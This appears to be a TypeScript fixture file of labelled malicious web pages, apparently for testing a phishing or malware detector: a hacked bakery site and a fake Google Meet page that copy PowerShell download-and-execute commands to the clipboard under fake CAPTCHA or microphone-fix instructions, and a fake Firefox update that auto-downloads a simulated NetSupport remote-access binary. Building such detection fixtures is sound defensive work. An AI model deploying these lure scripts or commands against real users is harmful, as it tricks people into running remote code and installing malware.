import { htmlRoute, type Entry } from '../entry.js';
import { doc, tess } from '../parts/zq-kit.js';
import { jsRoute, zip, fileRoute, pe } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zq-clickfix-bakery-verify-human',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://brotzeit-baeckerei-huber.de/',
  body: tess({
    title: 'Bäckerei Huber — Brot & Brezen seit 1962',
    site: 'Bäckerei Huber',
    lang: 'de',
    accent: '#8a5a2b',
    nav: ['Sortiment', 'Filialen', 'Kontakt'],
    body: `<section class="tb-hero"><h1>Frisch aus dem Holzofen</h1><p>Jeden Morgen ab 5:30 Uhr in Ihrer Filiale.</p></section><section class="tb-section"><p>Unsere Brezen, Semmeln und Bauernbrote werden nach traditionellen Rezepten gebacken.</p></section>
<script src="/wp-content/plugins/wp-cache-helper/js/front.min.js"></script>`,
  }),
  routes: {
    'brotzeit-baeckerei-huber.de/wp-content/plugins/wp-cache-helper/js/front.min.js': jsRoute(`(function(){if(localStorage.getItem('_vfd'))return;
var c='powershell -w h -nop -c "iex(iwr -useb https://cdn-verify-captcha.icu/v.txt)" # \\u2705 I am not a robot - reCAPTCHA Verification ID: 7731';
var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:99999;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial';
o.innerHTML='<div style="width:420px;border:1px solid #d3d3d3;box-shadow:0 0 8px rgba(0,0,0,.1);padding:22px"><div style="display:flex;align-items:center;gap:12px"><input type=checkbox id=_rc style="width:26px;height:26px"><label for=_rc>I\\'m not a robot</label><img src="https://www.gstatic.com/recaptcha/api2/logo_48.png" style="margin-left:auto;height:32px"></div><div id=_st style="display:none;margin-top:18px;font-size:14px"><b>Verification steps</b><ol><li>Press <b>Windows Button + R</b></li><li>Press <b>CTRL + V</b></li><li>Press <b>Enter</b></li></ol><p style="color:#666;font-size:12px">Perform the steps above to finish verification.</p></div></div>';
document.body.appendChild(o);
document.getElementById('_rc').addEventListener('click',function(){navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});document.getElementById('_st').style.display='block'});
})();`),
  },
},

{
  id: 'zq-clickfix-meet-mic-fix',
  label: 'clickfix',
  kind: 'clickfix-meeting',
  url: 'https://meet-google.us-join.net/xwb-kqda-npr',
  body: doc('Meet - xwb-kqda-npr', `<div class="mt"><div class="vid"><p>Camera is starting&hellip;</p></div><div class="side"><h2>Ready to join?</h2><p>3 others are in this call</p><button id="j">Join now</button></div></div>
<div id="err" class="err" style="display:none"><h3>&#9888; Microphone access error</h3><p>Your browser's audio driver is blocked (error 0x80070005). Follow these steps to fix it:</p><ol><li>Click <b>Copy fix</b></li><li>Press <b>Windows + X</b>, then <b>I</b> to open Windows PowerShell</li><li>Right-click to paste, then press <b>Enter</b></li></ol><button id="fx">Copy fix</button></div>
<script>
document.getElementById('j').onclick=function(){document.getElementById('err').style.display='block'};
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText('$u="https://meet-google.us-join.net/fix/audio.ps1";$s=(New-Object Net.WebClient).DownloadString($u);Invoke-Expression $s');this.textContent='Copied!'};
</script>`, { css: `body{background:#202124;color:#e8eaed;font-family:Google Sans,Arial}.mt{display:flex;gap:40px;max-width:1000px;margin:10vh auto}.vid{flex:2;background:#3c4043;height:360px;border-radius:8px;display:flex;align-items:center;justify-content:center}.side{flex:1}button{background:#1a73e8;color:#fff;border:0;padding:12px 24px;border-radius:20px}.err{position:fixed;top:20%;left:50%;transform:translateX(-50%);background:#fff;color:#202124;padding:24px;border-radius:8px;width:460px}` }),
},

{
  id: 'zq-fake-firefox-update-exe',
  label: 'malware',
  kind: 'fake-browser-update',
  url: 'https://firefox-update-center.staticbay.page/',
  body: doc('Firefox Update Required', `<div style="max-width:600px;margin:10vh auto;text-align:center;font-family:Arial"><svg width="80" height="80"><circle cx="40" cy="40" r="38" fill="#ff7139"/><circle cx="40" cy="40" r="20" fill="#7542e5"/></svg>
<h1>Critical Firefox Update</h1><p>Your browser version (118.0) has a critical security vulnerability. Install Firefox 133.0.3 now to continue browsing safely.</p>
<p><a id="d" href="/download/Firefox_Setup_133.0.3.exe" style="background:#0060df;color:#fff;padding:14px 36px;border-radius:4px;text-decoration:none">Download update</a></p><p style="font-size:12px;color:#777">Download starts automatically in <span id="s">5</span> seconds.</p></div>
<script>var n=5;var iv=setInterval(function(){n--;document.getElementById('s').textContent=n;if(n<=0){clearInterval(iv);location.href='/download/Firefox_Setup_133.0.3.exe'}},1000);</script>`),
  routes: {
    'firefox-update-center.staticbay.page/download/Firefox_Setup_133.0.3.exe': fileRoute(pe({ strings: ['NetSupport Manager', 'client32.ini', 'GatewayAddress=45.133.216.9:443', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run'], size: 120000 }), 'application/octet-stream', 'Firefox_Setup_133.0.3.exe'),
  },
},
];
